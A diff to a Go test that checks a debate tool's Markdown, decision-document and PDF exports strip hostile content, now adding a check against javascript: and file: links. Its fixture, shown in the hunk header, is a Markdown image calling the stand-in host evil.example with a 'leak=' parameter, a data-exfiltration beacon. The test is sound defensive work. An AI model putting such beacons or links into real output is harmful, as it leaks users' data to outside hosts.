@@ -89,7 +89,8 @@ const hostileMarkdown = "Opening.\n\n![track](https://evil.example/t.png?leak=se
 // TestHostileMarkdownStaysInItsPlace: the Markdown export, the decision
 // document and the PDF of a debate whose replies are hostileMarkdown have
 // the sections of the same debate with plain replies, no image and no raw
-// HTML, and the PDF links to no javascript: or file: address.
+// HTML, no link to a javascript: or file: address, and the PDF none
+// either.
 func TestHostileMarkdownStaysInItsPlace(t *testing.T) {
 	base := loadScript(t, "perspectives.yaml")
 	sections := func(doc string) []string {
@@ -104,6 +105,10 @@ func TestHostileMarkdownStaysInItsPlace(t *testing.T) {
 			case *ast.Image, *ast.RawHTML, *ast.HTMLBlock:
 				if entering {
 					t.Errorf("the document holds a live %s", n.Kind())
+				}
+			case *ast.Link:
+				if d := strings.ToLower(string(n.Destination)); entering && (strings.HasPrefix(d, "javascript:") || strings.HasPrefix(d, "file:")) {
+					t.Errorf("the document links to %s", d)
 				}
 			}
 			return ast.WalkContinue, nil
